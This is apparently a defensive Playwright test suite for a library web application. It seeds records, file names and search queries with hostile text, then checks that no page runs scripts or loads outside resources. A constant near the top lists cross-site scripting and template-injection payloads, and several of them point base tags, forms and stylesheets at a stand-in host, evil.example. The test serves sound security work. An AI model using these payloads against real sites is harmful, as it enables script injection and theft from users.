"""Hostile records, names, texts, queries and messages on every page, in a real browser: none of them is more than text."""

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from axtar import config
from axtar.library import Library
from axtar.model.entity import Entity, EntitySpelling

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>xss()</script>",
    "\"'><img src=x onerror=xss()>",
    "' onfocus='xss()' autofocus x='",
    '" onmouseover="xss()" style="position:fixed;inset:0" x="',
    "</title></textarea></style></script></svg><svg onload=xss()><animate onbegin=xss() attributeName=x>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe><object data=x></object><embed src=x>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=csrf_token><button>x</button></form>",
    "javascript:xss()//",
    "data:text/html,<script>xss()</script>",
    "{{7*191}} ${7*191} #{7*191} <%=7*191%> {%for x in config%}",
    "&lt;script&gt;xss()&lt;/script&gt; &#60;script&#62; \\u003cscript\\u003exss()",
    "<!-- <![CDATA[ ]]> --> <plaintext>",
    "\u202eright-to-left\u2066 \u200b\ufeff\u0007",
)
HOSTILE = " carpet ".join(PAYLOADS)
FILE_NAMES = (
    "<img src=x onerror=xss()>.txt",
    "' onfocus='xss()' autofocus x='.html",
    "javascript:xss(); .md",
    "\u202egnp.<svg onload=xss()>.txt",
)
TEXT_FIELDS = (
    "title", "container-title", "publisher", "publisher-place", "page", "volume", "issue", "DOI", "URL", "ISBN", "abstract",
    "note", "genre", "collection-title", "edition",
)  # fmt: skip
ELEMENTS = (
    "HTML HEAD META TITLE LINK SCRIPT NOSCRIPT BODY A HEADER FORM LABEL INPUT BUTTON NAV MAIN SECTION H1 H2 H3 H4 P UL OL LI DL "
    "DT DD DIV SPAN B BDI MARK EM STRONG CODE PRE DETAILS SUMMARY SELECT OPTION TEXTAREA TIME PROGRESS TABLE THEAD TBODY TR TH "
    "TD CAPTION ARTICLE ASIDE FIGURE FIGCAPTION IMG I SMALL FOOTER FIELDSET LEGEND HR BR CITE KBD SEARCH ABBR WBR DEL"
)

INIT = """
window.xss = () => { window.ran = true; };
window.violations = [];
document.addEventListener('securitypolicyviolation', event => violations.push(event.violatedDirective + ' ' + event.blockedURI));
"""
# What only our own templates and scripts may put on a page.
PROBLEMS = r"""
ours => {
  const problems = [...window.violations];
  if (window.ran) problems.push('a script ran');
  const all = [...document.querySelectorAll('*')];
  for (const element of all) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) problems.push(`${name}=${value}`);
      if (name === 'style') problems.push(`style=${value}`);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)) {
        const address = new URL(value, location.href);
        const known = ['https://www.wikidata.org', 'https://www.geonames.org', 'https://doi.org'].includes(address.origin);
        if (address.origin !== location.origin && !known) problems.push(`${name}=${value}`);
      }
    }
  }
  for (const element of all) {
    if (element.closest('svg')) continue;
    if (!ours.split(' ').includes(element.tagName)) problems.push(`<${element.tagName}>`);
  }
  const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (texts.nextNode()) {
    if (!/[\u202a-\u202e\u2066-\u2069]/.test(texts.currentNode.data)) continue;
    let element = texts.currentNode.parentElement;
    while (getComputedStyle(element).display.startsWith('inline') && getComputedStyle(element).unicodeBidi === 'normal')
      element = element.parentElement;
    const around = element.textContent.replace(texts.currentNode.data, '').trim();
    const isolated = getComputedStyle(element).unicodeBidi !== 'normal' || !around;
    if (!isolated) problems.push(`not isolated: ${element.outerHTML.slice(0, 300)}`);
  }
  for (const [selector, expected] of [['main', 1], ['body > header', 1], ['h1', 1], ['base', 0], ['iframe', 0]]) {
    const count = document.querySelectorAll(selector).length;
    if (count !== expected) problems.push(`${selector}: ${count}`);
  }
  if (document.querySelectorAll('script').length !== 2) problems.push('scripts');
  if (document.body.lastElementChild.tagName !== 'MAIN') problems.push('the page goes on after main');
  if (document.body.innerText.includes('1337')) problems.push('a template was evaluated');
  return problems;
}
"""


@pytest.fixture(scope="session")
def built_library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a library that a stranger has filled."""
    root, incoming = tmp_path_factory.mktemp("hostile"), tmp_path_factory.mktemp("hostile-files")
    for name in FILE_NAMES:
        (incoming / name).write_text(f"{HOSTILE} {name}", "utf8")
    record: dict[str, object] = dict.fromkeys(TEXT_FIELDS, HOSTILE)
    names = [{"family": payload, "given": payload} for payload in PAYLOADS] + [{"literal": HOSTILE}]
    record |= {"type": "book", "language": "en", "author": names, "editor": names}
    (incoming / "record.txt").write_text("A carpet.\f" + HOSTILE, "utf8")
    (incoming / "record.csl.json").write_text(json.dumps(record), "utf8")
    with _open(root) as library:
        assert {outcome.status for outcome in library.add([incoming])} == {"added"}
        spellings = tuple(
            EntitySpelling(f"Zqabc {payload.replace('|', ' ').replace(';', ' ')[:60]}", language, "usual")
            for payload, language in zip(PAYLOADS, ("en", "az", "tr", "ru", "fa"), strict=False)
        )
        library.entities.save(Entity("", "town", "AZ", 40.0, 47.0, "", "", spellings), "<script>xss()</script>")
        for job, state in zip(range(3), ("done", "failed", "running"), strict=True):
            added = library.catalogue.jobs.add("names" if job == 2 else "file", HOSTILE)
            library.catalogue.jobs.update(added.id, state=state, message=HOSTILE, done=job, total=3)
    return root


def _open(root: Path) -> Library:
    return Library(config.load(root, environ={"AXTAR_UPLOAD_MB": "1", "AXTAR_WORKERS": "1"}))


@pytest.fixture
def page(browser: Browser, server_address: str) -> Iterator[Page]:
    """A window in which no script but ours may run, no dialog open and nothing be loaded from elsewhere."""
    context = browser.new_context(base_url=server_address)
    context.add_init_script(INIT)
    page = context.new_page()
    found: list[str] = []

    def close(dialog: Dialog) -> None:
        found.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", close)
    page.on("pageerror", lambda error: found.append(str(error)))
    page.on("request", lambda request: None if request.url.startswith(server_address) else found.append(request.url))
    yield page
    context.close()
    assert not found


def _problems(page: Page) -> list[str]:
    problems: list[str] = page.evaluate(PROBLEMS, ELEMENTS)
    return [f"{page.url[:120]}: {problem}" for problem in problems]


def _visit(page: Page, addresses: list[str]) -> list[str]:
    """Open the addresses, try what a payload may wait for, and return what is wrong with the pages."""
    problems = []
    for address in addresses:
        page.goto(address)
        page.evaluate("for (const e of document.querySelectorAll('details')) e.open = true")
        page.evaluate(
            "for (const e of document.querySelectorAll('main *')) { e.dispatchEvent(new Event('mouseover')); e.focus?.(); }"
        )
        problems += _problems(page)
    return problems


def _addresses(library: Library) -> list[str]:
    documents = [document.id for document in library.documents.list_all(100, 0)]
    entity = library.entities.list_own()[0].entity.id
    searches = [{"q": payload} for payload in PAYLOADS[1:12:3]]
    searches += [
        {"q": "carpet", name: PAYLOADS[1]} for name in ("without", "as", "language", "type", "places", "year", "page")
    ]
    hostile = urlencode({"q": HOSTILE, "without": HOSTILE, "as": HOSTILE, "language": HOSTILE})
    paths = [quote(path) for path in ("/<script>xss()</script>", "/e/<svg onload=xss()>", "/d/<svg onload=xss()>")]
    pages = ["/", "/?q=carpet", "/?q=Zqabc", "/d", f"/e/{entity}", "/login", "/login?next=javascript:xss()", *paths]
    for document in documents[-2:]:
        pages += [f"/d/{document}", f"/d/{document}/p/1?q=carpet", f"/d/{document}/p?number={quote(PAYLOADS[0])}"]
    pages += [f"/?{hostile}", f"/d/{documents[0]}?{hostile}", f"/d/{documents[0]}/p/1?{hostile}"]
    return [*pages, *(f"/?{urlencode(search)}" for search in searches)]


def test_no_page_for_readers_runs_or_obeys_hostile_text(page: Page, library: Library) -> None:
    """Searches, documents, pages, entities and errors."""
    assert _visit(page, _addresses(library)) == []


def test_no_page_for_librarians_runs_or_obeys_hostile_text(
    page: Page, library: Library, password: str, tmp_path: Path
) -> None:
    """Forms, jobs, entities, and the messages after uploads, changes and removals."""
    page.goto("/login")
    page.get_by_label("Password").fill(PAYLOADS[0])
    page.get_by_role("button", name="Log in").click()
    assert _problems(page) == []
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("button", name="Log out")).to_be_visible()
    documents = [document.id for document in library.documents.list_all(100, 0)]
    entity = library.entities.list_own()[0].entity.id
    addresses = [
        "/jobs",
        "/upload",
        "/entries",
        "/entries/new",
        f"/e/{entity}/edit",
        f"/e/{entity}/remove",
        f"/e/{entity}",
        "/",
    ]
    for document in documents:
        addresses += [f"/d/{document}/edit", f"/d/{document}/remove"]
    assert _visit(page, addresses) == []

    upload = tmp_path / "<img src=x onerror=xss()>.exe"
    upload.write_bytes(b"MZ")
    page.goto("/upload")
    page.locator("input[type=file]").set_input_files(upload)
    page.locator("main form button").click()
    page.wait_for_load_state()
    assert _problems(page) == []
    page.goto(f"/d/{documents[-1]}/remove")
    page.locator("main form button").click()
    expect(page.locator(".message")).to_be_visible()
    assert _problems(page) == []
    page.goto(f"/d/{documents[-1]}")
    assert _problems(page) == []


def test_suggestions_are_text(page: Page) -> None:
    """The list is built by a script from JSON."""
    page.goto("/")
    page.get_by_role("combobox", name="Search the library").press_sequentially("Zqab")
    expect(page.get_by_role("option").first).to_contain_text("Zqabc")
    assert _problems(page) == []
    page.get_by_role("option").first.click()
    page.get_by_role("button", name="Search").click()
    page.wait_for_load_state()
    assert _problems(page) == []


def test_an_original_opened_directly_runs_nothing(page: Page, library: Library) -> None:
    """A text or a web page is downloaded, never shown in the site's name."""
    for document in library.documents.list_all(100, 0):
        answer = page.request.get(f"/d/{document.id}/file")
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
